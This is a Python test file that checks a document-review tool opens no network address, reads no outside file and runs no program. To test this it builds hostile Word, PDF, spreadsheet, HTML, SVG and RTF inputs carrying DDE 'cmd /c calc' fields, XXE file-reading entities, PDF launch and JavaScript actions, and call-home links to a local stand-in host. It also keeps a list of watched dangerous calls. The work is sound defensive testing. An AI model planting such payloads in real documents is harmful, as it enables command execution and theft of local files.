"""Nothing in a document makes the tool open an address, another file, or run anything."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from extractor.readers.converted import office
from tests.readers.build import NAMESPACES, RELATIONS, docx, field, p, r, tbl, tr
from tests.readers.pdf_build import raw, shown, stream

ROOT = Path(__file__).parents[1]
CANARY = "SECRET-OF-THE-OFFICE-4711"
HOME = "127.0.0.1:9"

WATCH = """
import os, sys
log = os.open(os.environ["WATCH_LOG"], os.O_WRONLY | os.O_APPEND | os.O_CREAT)
WATCHED = ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.sendto",
           "subprocess.Popen", "os.exec", "os.posix_spawn", "os.system", "os.startfile",
           "webbrowser.open", "urllib.Request", "ftplib.connect", "ctypes.dlopen", "open")
def heard(event, args):
    if event in WATCHED:
        os.write(log, f"{event} {args[:2]!r}\\n".encode("utf-8", "replace"))
sys.addaudithook(heard)
"""
"""Forked workers carry the hook along."""


def form_that_calls_home(path: Path, outside: Path) -> None:
    """A Word file with every kind of relation that leads out of it."""
    kinds = {
        "image": "http://{home}/pixel.png", "attachedTemplate": "http://{home}/t.dotm",
        "aFChunk": "http://{home}/chunk.html", "oleObject": "file://{outside}",
        "hyperlink": "http://{home}/x", "frame": "http://{home}/frame.htm",
        "subDocument": "file://{outside}", "mailMergeSource": "file://{outside}",
    }  # fmt: skip
    body = (
        p("集群名称：某市某县轴承特色产业集群"),
        p(*(r(inner=f'<w:pict><v:shape><v:imagedata r:id="e{n}"/></v:shape></w:pict>')
            for n in range(len(kinds)))),
        '<w:altChunk r:id="e2"/>', '<w:subDoc r:id="e6"/>',
        p(field(f'INCLUDETEXT "{outside}"', "已存的文字")),
        p(field(f'INCLUDEPICTURE "http://{HOME}/p.png" \\d', "图")),
        p(field('DDEAUTO cmd "/c calc"', "数")),
        p(field(f'LINK Excel.Sheet.8 "{outside}" "R1C1"', "表")),
        tbl(tr("企业户数（户）", "120"), tr("总产值（亿元）", "61.07")),
    )  # fmt: skip
    docx(path, *body)
    extra = "".join(
        f'<Relationship Id="e{n}" Type="{RELATIONS}/{kind}" TargetMode="External" '
        f'Target="{target.format(home=HOME, outside=outside)}"/>'
        for n, (kind, target) in enumerate(kinds.items())
    )
    rewrite(path, "word/_rels/document.xml.rels", b"</Relationships>", f"{extra}</Relationships>")


def rewrite(path: Path, part: str, old: bytes, new: str) -> None:
    with zipfile.ZipFile(path) as source:
        parts = {n: source.read(n) for n in source.namelist()}
    assert old in parts[part]
    parts[part] = parts[part].replace(old, new.encode())
    with zipfile.ZipFile(path, "w") as made:
        for name, data in parts.items():
            made.writestr(name, data)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A package whose every file wants something from elsewhere."""
    folder, outside = tmp_path / "in" / "某集群", tmp_path / "outside.txt"
    folder.mkdir(parents=True)
    outside.write_text(CANARY, encoding="utf-8")
    form_that_calls_home(folder / "申请表.docx", outside)
    xxe = (
        f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file://{outside}">'
        f'<!ENTITY % p SYSTEM "http://{HOME}/p.dtd"> %p;]><w:document {NAMESPACES}><w:body>'
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    docx(folder / "附件一.docx", document=xxe)
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{outside}"/>'
    )
    docx(folder / "附件二.docx", p("正文"), include)
    actions = (
        f"/OpenAction << /S /Launch /F ({outside}) /Win << /F (calc.exe) >> >> /Names << "
        f"/JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\('http://{HOME}'\\)) >>"
        "] >> >> /AcroForm << /XFA 6 0 R /Fields [] >>"
    )
    content = shown("text only", 50, 200) + "/X1 Do\n"
    xfa = f'<!DOCTYPE x [<!ENTITY y SYSTEM "file://{outside}">]><xdp>&y;</xdp>'
    remote = f"/Type /XObject /Subtype /Image /Width 1 /Height 1 /F (http://{HOME}/i)"
    raw(
        folder / "承诺书.pdf", content, [stream("", xfa), stream(remote, "")], catalog=actions,
        resources="/XObject << /X1 7 0 R >>",
        page=f"/AA << /O << /S /URI /URI (http://{HOME}/u) >> >>",
    )  # fmt: skip
    sheet(folder / "清单.xlsx", outside)
    html = (
        f'<html><meta http-equiv="refresh" content="0;url=http://{HOME}/">'
        f'<img src="http://{HOME}/i.png"><iframe src="file://{outside}"></iframe>'
        f'<script>fetch("http://{HOME}/")</script>宣传</html>'
    )
    (folder / "宣传.html").write_text(html, encoding="utf-8")
    (folder / "宣传.doc").write_text(html, encoding="utf-8")
    (folder / "照片.png").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{outside}"/></svg>'
    )
    from PIL import Image

    # a page that is recognised: the recogniser's library reports to its makers if it is let
    page = next((ROOT / "samples/scanned").glob("*阳谷*/*-1.jpg"))
    Image.open(page).crop((100, 200, 500, 400)).save(folder / "申请表扫描件.png")
    rtf = (
        r"{\rtf1\ansi{\*\template http://%s/t.dot}{\field{\*\fldinst INCLUDEPICTURE "
        r'"http://%s/p.png"}{\fldrslt x}}{\field{\*\fldinst INCLUDETEXT "%s"}{\fldrslt y}}'
        r"\u35777?\u26126? text}"
    )
    (folder / "证明.rtf").write_text(rtf % (HOME, HOME, outside))
    return folder


def sheet(path: Path, outside: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    rows = book.active
    assert rows is not None
    rows.append(["序号", "企业", "数"])
    rows.append([1, f'=WEBSERVICE("http://{HOME}/")', f"='file://{outside}'#$Sheet1.A1"])
    rows.append([2, f'=HYPERLINK("http://{HOME}/","x")', "=cmd|'/c calc'!A1"])
    book.save(path)


def review(folder: Path, tmp_path: Path, *before: str, **env: str) -> list[dict]:  # type: ignore[type-arg]
    home = tmp_path / "home"
    done = subprocess.run(
        [*before, sys.executable, "-m", "review_ui.cli", "review", str(folder), "--json",
         "--on", "2024-04-20", "--jobs", "1", "--worksheet", str(tmp_path / "w.xlsx")],
        env={**os.environ, "HECHA_HOME": str(home), "PYTHONPATH": str(ROOT), **env},
        capture_output=True, text=True, timeout=280,
    )  # fmt: skip
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    said = done.stdout + done.stderr
    kept = (
        b"".join(p.read_bytes() for p in home.glob("hecha.db*"))
        + (tmp_path / "w.xlsx").read_bytes()
    )
    assert CANARY not in said and CANARY.encode() not in kept
    return [json.loads(line) for line in done.stdout.splitlines()]


def test_python_opens_nothing_and_runs_nothing(hostile: Path, tmp_path: Path) -> None:
    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "sitecustomize.py").write_text(WATCH, encoding="utf-8")
    log = tmp_path / "watched.txt"
    paths = os.pathsep.join([str(tmp_path / "site"), str(ROOT)])
    [made] = review(hostile, tmp_path, PYTHONPATH=paths, WATCH_LOG=str(log), PATH="/none")
    events = log.read_text(encoding="utf-8").splitlines()
    assert any("申请表.docx" in e for e in events)  # the workers are watched too
    calls = [e for e in events if not e.startswith(("open ", "ctypes.dlopen"))]
    assert calls == []  # without LibreOffice on the path nothing is started
    assert [e for e in events if "outside.txt" in e] == []
    assert {f["file"] for f in made["files"]} >= {"申请表.docx", "承诺书.pdf", "清单.xlsx"}


@pytest.mark.skipif(not shutil.which("strace"), reason="no strace here")
@pytest.mark.skipif(office() is None, reason="no LibreOffice here")
def test_nor_does_libreoffice_or_any_library(hostile: Path, tmp_path: Path) -> None:
    log = tmp_path / "calls.txt"
    trace = ["strace", "-f", "-qq", "-e", "trace=connect,execve,openat,open", "-o", str(log)]
    if subprocess.run([*trace, "true"]).returncode:
        pytest.skip("strace may not look here")
    env = {k: "" for k in ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "TF_BUILD") if k in os.environ}
    [made] = review(hostile, tmp_path, *trace, **env)
    assert [f["ocr_pages"] for f in made["files"] if f["file"] == "申请表扫描件.png"] == [1]
    lines = log.read_text(encoding="utf-8", errors="replace").splitlines()
    assert [line for line in lines if "connect(" in line and "AF_INET" in line] == []
    assert [line for line in lines if ".ses" in line] == []  # what it would have reported
    assert [line for line in lines if "outside.txt" in line] == []
    run = {line.split('"')[1] for line in lines if "execve(" in line and "= 0" in line}
    names = {Path(program).name for program in run} - {Path(sys.executable).name, "strace"}
    # LibreOffice's own start script, and what it is made of
    assert names <= {
        "soffice", "libreoffice", "oosplash", "soffice.bin", "sh", "bash", "dash", "uname", "grep",
        "basename", "dirname", "sed", "ls", "cat", "javaldx", "java", "ldconfig",
    }, names  # fmt: skip
